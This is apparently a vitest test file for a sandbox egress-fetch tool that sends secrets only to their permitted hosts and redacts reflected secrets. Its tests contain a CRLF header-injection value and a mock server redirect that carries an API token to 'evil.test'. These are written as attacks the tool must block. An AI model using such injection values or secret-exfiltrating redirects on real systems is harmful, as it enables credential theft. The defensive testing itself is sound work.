import { describe, expect, it } from 'vitest';
import { egressFetch, type EgressPolicy, type GuestFetchResponse } from '../../src/capabilities/egress/egress-fetch.js';
import { placeholderFor } from '../../src/capabilities/egress/secrets.js';
import { boundsFor, get, loopbackServer, policyFor } from '../helpers/loopback-server.js';

/** A canary: if this text appears anywhere the guest or the audit log can see, the secret leaked. */
const CANARY = 'canary-7Hq2/xZ+9pL=Kw';
const PLACEHOLDER = placeholderFor('API_TOKEN');

const ok = (res: unknown) => {
  expect(res).not.toHaveProperty('refused');
  return res as GuestFetchResponse;
};

function withSecret(patterns: string[], hosts: string[], value = CANARY, extra: Partial<EgressPolicy> = {}): EgressPolicy {
  return policyFor(patterns, { secrets: new Map([['API_TOKEN', { value, hosts }]]), ...extra });
}

/** Everything the guest and the audit log get, as one string to search. */
const visible = (result: unknown) => JSON.stringify(result);

describe('egressFetch() substitutes secrets only for their hosts', () => {
  it('sends the value in place of the placeholder to one of its hosts', async () => {
    const server = await loopbackServer((_req, res) => res.end('ok'));
    const result = await egressFetch(get(server.url('/me'), [['authorization', `Bearer ${PLACEHOLDER}`]]), withSecret([server.pattern], [server.pattern]), boundsFor());
    expect(ok(result.outcome).body).toBe('ok');
    expect(server.received[0]!.headers.authorization).toBe(`Bearer ${CANARY}`);
    expect(visible(result)).not.toContain(CANARY);
  });

  it("refuses to send it to a host outside the secret's hosts, even one the tool may fetch", async () => {
    const home = await loopbackServer((_req, res) => res.end());
    const elsewhere = await loopbackServer((_req, res) => res.end());
    const result = await egressFetch(get(elsewhere.url(), [['x-api-key', PLACEHOLDER]]), withSecret([home.pattern, elsewhere.pattern], [home.pattern]), boundsFor());
    expect(result.outcome).toMatchObject({
      name: 'CapabilityError',
      message: `secret "API_TOKEN" may only be sent to ${home.pattern}, and this request goes to ${elsewhere.pattern}: send it only to those hosts, or the host must add "${elsewhere.pattern}" to secrets.API_TOKEN.hosts in its config`,
    });
    expect(result.audit[0]).toMatchObject({ refused: 'secret' });
    expect(elsewhere.received).toEqual([]);
    expect(visible(result)).not.toContain(CANARY);
  });

  it('refuses a placeholder for a secret the tool does not have', async () => {
    const server = await loopbackServer((_req, res) => res.end());
    const result = await egressFetch(get(server.url(), [['x-api-key', placeholderFor('OTHER')]]), withSecret([server.pattern], [server.pattern]), boundsFor());
    expect(result.outcome).toMatchObject({ name: 'CapabilityError', message: expect.stringMatching(/secret "OTHER" is not available to tool probe/) });
    expect(server.received).toEqual([]);
  });

  it('refuses a secret whose value holds CRLF (header injection through the value), never quoting it', async () => {
    const server = await loopbackServer((_req, res) => res.end());
    const value = `${CANARY}\r\nX-Injected: yes`;
    const result = await egressFetch(get(server.url(), [['authorization', PLACEHOLDER]]), withSecret([server.pattern], [server.pattern], value), boundsFor());
    expect(result.outcome).toMatchObject({ name: 'TypeError', message: expect.stringMatching(/secret "API_TOKEN" contains a line break/) });
    expect(server.received).toEqual([]);
    expect(visible(result)).not.toContain(CANARY);
  });

  it('refuses CRLF in a header the guest wrote', async () => {
    const server = await loopbackServer((_req, res) => res.end());
    const result = await egressFetch(get(server.url(), [['x-a', 'v\r\nX-Injected: yes']]), policyFor([server.pattern]), boundsFor());
    expect(result.outcome).toMatchObject({ name: 'TypeError', message: expect.stringMatching(/header "x-a" contains a line break/) });
    expect(server.received).toEqual([]);
  });

  it('refuses a placeholder in the URL or the body, where it would never be substituted', async () => {
    const server = await loopbackServer((_req, res) => res.end());
    const policy = withSecret([server.pattern], [server.pattern]);
    const inUrl = await egressFetch(get(server.url(`/x?token=${PLACEHOLDER}`)), policy, boundsFor());
    expect(inUrl.outcome).toMatchObject({ name: 'CapabilityError', message: expect.stringMatching(/placeholder is in the URL/) });
    const inBody = await egressFetch({ ...get(server.url()), method: 'POST', body: `token=${PLACEHOLDER}` }, policy, boundsFor());
    expect(inBody.outcome).toMatchObject({ name: 'CapabilityError', message: expect.stringMatching(/placeholder is in the body/) });
    expect(server.received).toEqual([]);
  });
});

describe('egressFetch() redacts a reflected secret before the response crosses', () => {
  it('replaces it in the body, headers, status text, final URL and audit, in raw, URL-encoded and base64 forms', async () => {
    const server = await loopbackServer((req, res, received) => {
      const token = String(received.headers['x-api-key']);
      if (req.url === '/start') {
        // A redirect that puts the secret in the URL the guest would see.
        res.writeHead(302, { location: `/echo/${encodeURIComponent(token)}?t=${encodeURIComponent(token)}` });
        res.end();
        return;
      }
      res.writeHead(200, `OK ${token}`, {
        'x-echo': token,
        'x-b64': Buffer.from(token).toString('base64'),
        'x-basic': `Basic ${Buffer.from(`user:${token}`).toString('base64')}`,
      });
      res.end(JSON.stringify({ headers: received.headers, url: received.url, encoded: encodeURIComponent(token), b64url: Buffer.from(token).toString('base64url') }));
    });
    const result = await egressFetch(get(server.url('/start'), [['x-api-key', PLACEHOLDER]]), withSecret([server.pattern], [server.pattern]), boundsFor());
    const response = ok(result.outcome);
    // The server did get the secret on both hops (same origin) and reflected it everywhere.
    expect(server.received.map((r) => r.headers['x-api-key'])).toEqual([CANARY, CANARY]);

    const all = visible(result);
    expect(all).not.toContain(CANARY);
    expect(all).not.toContain(encodeURIComponent(CANARY));
    expect(all).not.toContain(Buffer.from(CANARY).toString('base64'));
    expect(all).not.toContain(Buffer.from(CANARY).toString('base64url'));
    expect(all).not.toContain(Buffer.from(`user:${CANARY}`).toString('base64').slice(4, -4));
    const body = JSON.parse(response.body);
    expect(body.headers['x-api-key']).toBe(PLACEHOLDER);
    expect(body.encoded).toBe(PLACEHOLDER);
    expect(response.headers).toContainEqual(['x-echo', PLACEHOLDER]);
    expect(response.headers).toContainEqual(['x-b64', PLACEHOLDER]);
    expect(response.statusText).toBe(`OK ${PLACEHOLDER}`);
    expect(response.url).toBe(server.url(`/echo/${PLACEHOLDER}?t=${PLACEHOLDER}`));
    expect(result.audit[1]!.path).toBe(`/echo/${PLACEHOLDER}?t=`);
  });

  it('redacts it from a refusal naming a redirect target that carries it', async () => {
    const server = await loopbackServer((_req, res, received) => {
      res.writeHead(302, { location: `http://evil.test/${String(received.headers['x-api-key'])}` });
      res.end();
    });
    const result = await egressFetch(get(server.url('/'), [['x-api-key', PLACEHOLDER]]), withSecret([server.pattern], [server.pattern]), boundsFor());
    expect(result.outcome).toMatchObject({ name: 'CapabilityError', message: expect.stringContaining(` to http://evil.test/${PLACEHOLDER}: fetch to evil.test is not allowed`) });
    expect(result.audit[1]).toMatchObject({ origin: 'http://evil.test', path: `/${PLACEHOLDER}`, refused: 'not allowed' });
    expect(visible(result)).not.toContain(CANARY);
  });
});
